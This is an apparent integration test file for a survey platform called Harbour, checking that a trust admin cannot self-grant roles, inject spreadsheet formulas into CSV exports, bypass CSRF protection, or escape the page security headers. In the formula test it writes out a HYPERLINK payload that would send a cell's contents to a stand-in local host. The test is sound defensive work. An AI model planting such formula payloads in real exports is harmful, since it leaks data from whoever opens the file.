import { Client } from 'pg';
import { demoData } from '@harbour/demo';
import { DEMO_ACCOUNTS, postGraphQL, signInAs, startTestPlatform, type TestPlatform } from '../support/platform';

/**
 * Harbour's promises against its own users: each attack issue 12 found, tried as an insider
 * would (a trust's admin with the demo's accounts), through the gateway.
 */
let platform: TestPlatform;
let owner: Client;
const demo = demoData();
const trust = demo.organisations.find((o) => o.kind === 'trust' && o.name.startsWith('Northmoor'))!;

beforeAll(async () => {
  platform = await startTestPlatform();
  owner = new Client({ connectionString: platform.database.ownerUrl });
  await owner.connect();
}, 120_000);

afterAll(async () => {
  await owner?.end();
  await platform?.stop();
});

const FORMULA = /^[=+\-@\t\r]/;

/** Every cell of a CSV (quoted cells unquoted), good enough for the files Harbour writes. */
function cellsOf(csv: string): string[] {
  const cells: string[] = [];
  for (const match of csv.matchAll(/("(?:[^"]|"")*"|[^,\n]*)(,|\n|$)/g)) {
    const raw = match[1]!;
    cells.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
    if (match[2] === '') break;
  }
  return cells;
}

describe('a trust admin against their own trust', () => {
  it('cannot give their own account a researcher grant, nor any grant, so takes no raw rows away', async () => {
    const admin = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.northmoorAdmin);
    for (const role of ['RESEARCHER', 'EVALUATOR', 'TRUST_ADMIN']) {
      const granted = await postGraphQL(platform.gatewayUrl, `mutation { grantAccess(input: { email: "${DEMO_ACCOUNTS.northmoorAdmin}", organisationId: "${trust.id}", role: ${role} }) { id } }`, admin);
      expect(granted.body.errors?.[0]?.extensions).toMatchObject({ code: 'FORBIDDEN', reason: 'SELF_GRANT' });
    }
    const history = demo.history.find((h) => h.tenantId === trust.id)!;
    const again = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.northmoorAdmin);
    const raw = await fetch(`${new URL('/exports/responses.csv', platform.gatewayUrl)}?campaignId=${history.id}`, { headers: again });
    expect(raw.status).toBe(403);
    const grants = await owner.query(`SELECT g.role FROM directory.access_grant g JOIN directory.account a ON a.id = g.account_id WHERE a.email = $1`, [DEMO_ACCOUNTS.northmoorAdmin]);
    expect(grants.rows).toEqual([{ role: 'trust_admin' }]);
  });

  it('cannot plant a live formula in an export by naming an organisation', async () => {
    const admin = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.northmoorAdmin);
    const planted = '=HYPERLINK("http://127.0.0.1:5999/?leak="&A2,"Open")';
    const rename = async (id: string, name: string) => {
      const response = await fetch(platform.gatewayUrl, {
        method: 'POST',
        headers: { 'content-type': 'application/json', ...admin },
        body: JSON.stringify({ query: `mutation ($name: String!) { updateOrganisation(input: { id: "${id}", name: $name }) { name } }`, variables: { name } }),
      });
      expect(((await response.json()) as { data: { updateOrganisation: { name: string } } }).data.updateOrganisation.name).toBe(name);
    };
    // A service the trust's breakdown lists, and the team most responses were answered from.
    const service = demo.organisations.find((o) => o.name === 'Community Mental Health Service')!;
    await rename(service.id, planted);
    const busiest = await owner.query(`SELECT organisation_id AS id FROM responses.response WHERE tenant_id = $1 GROUP BY 1 ORDER BY count(*) DESC LIMIT 1`, [trust.id]);
    await rename(busiest.rows[0].id, `+${planted}`);

    const evaluator = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.northmoorEvaluator);
    const filter = encodeURIComponent(JSON.stringify({ instrument: 'where_i_belong' }));
    const csv = await (await fetch(`${new URL('/exports/role-evaluation.csv', platform.gatewayUrl)}?filter=${filter}&table=breakdown&by=ORGANISATION`, { headers: evaluator })).text();
    const cells = cellsOf(csv);
    expect(cells).toContain(`'${planted}`);
    expect(cells.filter((c) => FORMULA.test(c))).toEqual([]);

    // The same name in raw rows, for a researcher (granted by a platform admin).
    const platformAdmin = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.platformAdmin);
    await postGraphQL(platform.gatewayUrl, 'mutation { createAccount(input: { email: "insider.researcher@northmoor.example", displayName: "R", password: "a long password 43" }) { id } }', platformAdmin);
    const granted = await postGraphQL(platform.gatewayUrl, `mutation { grantAccess(input: { email: "insider.researcher@northmoor.example", organisationId: "${trust.id}", role: RESEARCHER }) { id } }`, platformAdmin);
    expect(granted.body.errors).toBeUndefined();
    const researcher = await signInAs(platform.gatewayUrl, 'insider.researcher@northmoor.example', 'a long password 43');
    const history = demo.history.find((h) => h.tenantId === trust.id)!;
    const rows = await (await fetch(`${new URL('/exports/responses.csv', platform.gatewayUrl)}?campaignId=${history.id}`, { headers: researcher })).text();
    const rawCells = cellsOf(rows);
    expect(rawCells).toContain(`'+${planted}`);
    expect(rawCells.filter((c) => FORMULA.test(c))).toEqual([]);
  });
});

describe('the page policy', () => {
  it('is on every response: pages, the respondent\'s page, GraphQL and downloads', async () => {
    const evaluator = await signInAs(platform.gatewayUrl, DEMO_ACCOUNTS.northmoorEvaluator);
    const filter = encodeURIComponent(JSON.stringify({ instrument: 'where_i_belong' }));
    const answers = [
      await fetch(new URL('/', platform.gatewayUrl)),
      await fetch(new URL('/s/HarbourDemoLinkForTheQuickStartOnlyNotSecre', platform.gatewayUrl)),
      await fetch(platform.gatewayUrl, { headers: { accept: 'text/html' } }),
      await fetch(platform.gatewayUrl, { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"query":"{ __typename }"}' }),
      await fetch(`${new URL('/exports/role-evaluation.csv', platform.gatewayUrl)}?filter=${filter}`, { headers: evaluator }),
    ];
    for (const answer of answers) {
      expect(answer.status).toBe(200);
      const csp = answer.headers.get('content-security-policy') ?? '';
      const directives = new Map(csp.split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name!, values.join(' ')]));
      expect(directives.get('script-src')).toBe("'self'");
      expect(directives.get('connect-src')).toBe("'self'");
      expect(directives.get('object-src')).toBe("'none'");
      expect(directives.get('base-uri')).toBe("'none'");
      expect(directives.get('frame-ancestors')).toBe("'none'");
      expect(directives.get('default-src')).toBe("'self'");
      expect(answer.headers.get('referrer-policy')).toBe('no-referrer');
      expect(answer.headers.get('permissions-policy')).toMatch(/camera=\(\), .*geolocation=\(\)/);
      expect(answer.headers.get('x-content-type-options')).toBe('nosniff');
      // Plain http here: no HSTS (a browser would pin a loopback address to https).
      expect(answer.headers.get('strict-transport-security')).toBeNull();
      await answer.arrayBuffer();
    }
  });
});

describe('the web app\'s session', () => {
  /** Signs in as a browser would: the cookies the gateway set, as one Cookie header, and the CSRF token. */
  async function browserSignIn(email: string): Promise<{ cookie: string; csrf: string; setCookies: string[]; body: unknown }> {
    const response = await fetch(new URL('/auth/session', platform.gatewayUrl), {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ email, password: 'harbour-demo-2026' }),
    });
    expect(response.status).toBe(200);
    const setCookies = response.headers.getSetCookie();
    const pairs = setCookies.map((c) => c.split(';')[0]!);
    return {
      cookie: pairs.join('; '),
      csrf: decodeURIComponent(pairs.find((p) => p.startsWith('harbour_csrf='))!.slice('harbour_csrf='.length)),
      setCookies,
      body: await response.json(),
    };
  }

  it('lives in HttpOnly, SameSite=Strict cookies, never in what the page is sent', async () => {
    const { setCookies, body } = await browserSignIn(DEMO_ACCOUNTS.northmoorEvaluator);
    expect(Object.keys(body as object)).toEqual(['expiresAt']);
    const byName = new Map(setCookies.map((c) => [c.split('=')[0]!, c]));
    expect([...byName.keys()].sort()).toEqual(['harbour_csrf', 'harbour_csrf_secret', 'harbour_session']);
    for (const name of ['harbour_session', 'harbour_csrf_secret']) expect(byName.get(name)).toMatch(/; HttpOnly/);
    expect(byName.get('harbour_csrf')).not.toMatch(/HttpOnly/);
    for (const cookie of setCookies) expect(cookie).toMatch(/; Path=\/; .*SameSite=Strict/);
  });

  it('acts only with the CSRF token, so another site\'s page cannot use it', async () => {
    const { cookie, csrf } = await browserSignIn(DEMO_ACCOUNTS.northmoorAdmin);
    const ask = (headers: Record<string, string>, query = '{ me { email } }') =>
      fetch(platform.gatewayUrl, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body: JSON.stringify({ query }) });
    const withToken = await ask({ cookie, 'x-harbour-csrf': csrf });
    expect(((await withToken.json()) as { data: { me: { email: string } } }).data.me.email).toBe(DEMO_ACCOUNTS.northmoorAdmin);
    // A cross-site form or fetch carries the cookie (were it not SameSite) but cannot set the header.
    const forgeries: Record<string, string>[] = [{ cookie }, { cookie, 'x-harbour-csrf': 'forged' }, { cookie, 'x-harbour-csrf': (await browserSignIn(DEMO_ACCOUNTS.northmoorEvaluator)).csrf }];
    for (const headers of forgeries) {
      const refused = await ask(headers, 'mutation { createRole(input: { organisationId: "00000000-0000-4000-8000-000000000000", code: "csrf", name: "CSRF" }) { id } }');
      expect(refused.status).toBe(403);
      expect(((await refused.json()) as { errors: { extensions: { code: string } }[] }).errors[0]!.extensions.code).toBe('CSRF_TOKEN_INVALID');
    }
    // Downloads are GETs: the cookie alone reads them, as a link in the page would.
    const filter = encodeURIComponent(JSON.stringify({ instrument: 'where_i_belong' }));
    expect((await fetch(`${new URL('/exports/role-evaluation.csv', platform.gatewayUrl)}?filter=${filter}`, { headers: { cookie } })).status).toBe(200);

    // Signing out ends the session for good and takes the cookies away.
    const out = await fetch(new URL('/auth/sign-out', platform.gatewayUrl), { method: 'POST', headers: { cookie, 'x-harbour-csrf': csrf } });
    expect(out.status).toBe(204);
    expect(out.headers.getSetCookie().every((c) => /Max-Age=0/.test(c))).toBe(true);
    expect((await ask({ cookie, 'x-harbour-csrf': csrf })).status).toBe(401);
  });
});
